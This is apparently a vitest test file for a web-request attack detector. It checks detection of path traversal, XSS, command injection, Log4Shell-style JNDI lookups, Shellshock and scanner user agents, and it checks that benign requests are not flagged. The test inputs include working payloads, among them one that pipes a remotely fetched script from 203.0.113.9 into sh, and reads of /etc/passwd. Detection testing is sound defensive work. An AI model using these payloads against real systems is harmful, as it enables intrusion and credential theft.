import { describe, expect, it } from 'vitest';
import { inspectRequest } from '../../src/detect/http-attacks';

const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
const sigs = (url: string, ua = CHROME): string[] => inspectRequest(url, ua).map((h) => `${h.event.replace('security.malicious_', '')}:${h.signature}@${h.location}`);

describe('attack syntax in the request line and user agent', () => {
  it.each([
    ['/static/../../../../etc/passwd', 'path_traversal:dot_dot_segment@url.path'],
    ['/download?file=..%2F..%2F..%2Fetc%2Fpasswd', 'path_traversal:dot_dot_segment@url.query'],
    ['/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd', 'path_traversal:dot_dot_segment@url.query'],
    ['/files/..\\..\\windows\\win.ini', 'path_traversal:dot_dot_segment@url.path'],
    ['/read?path=/etc/shadow', 'path_traversal:sensitive_file@url.query'],
    ['/.git/config', 'path_traversal:sensitive_file@url.path'],
    ['/.env', 'path_traversal:sensitive_file@url.path'],
    ['/app/.env.production', 'path_traversal:sensitive_file@url.path'],
    ['/search?q=<script>alert(1)</script>', 'xss:script_injection@url.query'],
    ['/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E', 'xss:script_injection@url.query'],
    ['/r?next=javascript:alert(document.domain)', 'xss:script_injection@url.query'],
    ['/search?q=%22%3E%3Csvg%2Fonload%3Dconfirm%601%60%3E', 'xss:script_injection@url.query'],
    ['/p/%3Cscript%3Ex%3C%2Fscript%3E', 'xss:script_injection@url.path'],
    ['/ping?host=8.8.8.8|id', 'cmdi:shell_command@url.query'],
    ['/ping?host=127.0.0.1%3B%20uname%20-a', 'cmdi:shell_command@url.query'],
    ['/ping?host=%60whoami%60', 'cmdi:shell_command@url.query'],
    ['/ping?host=$(curl%20http://203.0.113.9/x.sh|sh)', 'cmdi:shell_command@url.query'],
    ['/api?x=${jndi:ldap://203.0.113.9/a}', 'cmdi:jndi_lookup@url.query'],
    ['/api?x=%24%7Bjndi%3Armi%3A%2F%2Fevil%2Fa%7D', 'cmdi:jndi_lookup@url.query'],
  ])('%s', (url, expected) => {
    expect(sigs(url)).toContain(expected);
  });

  it.each([
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)',
    'Fuzz Faster U Fool v2.1.0-dev',
    'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
    'gobuster/3.6',
    'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
  ])('scanner user agent: %s', (ua) => {
    expect(sigs('/', ua)).toEqual(['attack_tool:scanner_user_agent@user_agent.original']);
  });

  it('payloads in the user agent', () => {
    expect(sigs('/', '${jndi:ldap://203.0.113.9:1389/Exploit}')).toEqual(['cmdi:jndi_lookup@user_agent.original']);
    expect(sigs('/', '() { :; }; /bin/bash -c "cat /etc/passwd"')).toContain('cmdi:shell_command@user_agent.original');
    expect(sigs('/', '<script>alert(1)</script>')).toEqual(['xss:script_injection@user_agent.original']);
  });

  it('ordinary requests and clients match nothing', () => {
    const urls = [
      '/', '/api/items?page=2&sort=created_at', '/products/shoes-2024?color=red&size=10.5', '/search?q=what+is+1%2B1',
      '/search?q=rock%20%26%20roll', '/docs/v1.2.3/index.html', '/files/report.final.pdf', '/a/b/./c', '/search?q=%22quoted%20phrase%22',
      "/search?q=it%27s", '/users/me;jsessionid=abc123', '/cart?items=1|2|3', '/calc?expr=(1%2B2)*3', '/search?q=cat+food',
      '/search?q=bash+tutorial', '/search?q=ls+command', '/api?callback=jQuery123_456', '/login?next=%2Fdashboard', '/etc-products',
      '/events/2024', '/personal/profile', '/wiki/C%2B%2B', '/search?q=email%40example.com', '/r?url=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1',
      '/search?q=on+load+time', '/path/with..dots/file', '/search?q=%3Cb%3Ebold%3C%2Fb%3E', '/.well-known/security.txt', '/api/env',
      '/search?q=$100+gift', '/search?q=a;b', '/search?q=sleep+tips', '/x?sort&cat', '/api/v2/orders/123/items?fields=id,name;price',
      '/search?q=%E2%9C%93%20unicode', '/time?at=2024-01-01T10:00:00Z', '/static/app.9f8e7d.js', '/img/logo@2x.png', '/feed.xml?since=..',
      '/search?q=alerting+rules', '/search?q=document+cookies+policy', '/search?q=javascript+tutorial', '/wiki/Node.js', '/dl?file=reports%2F2024%2Fq1.pdf',
    ];
    const uas = [CHROME, 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0', 'curl/8.4.0', 'python-requests/2.31.0', 'Go-http-client/1.1',
      'PostmanRuntime/7.36.0', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 'okhttp/4.12.0', 'node-fetch/1.0 (+https://github.com/bitinn/node-fetch)',
      'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1', 'kube-probe/1.29', 'ELB-HealthChecker/2.0'];
    const flagged = [...urls.map((u) => [u, sigs(u)] as const), ...uas.map((ua) => [ua, sigs('/', ua)] as const)].filter(([, s]) => s.length > 0);
    expect(flagged).toEqual([]);
  });
});
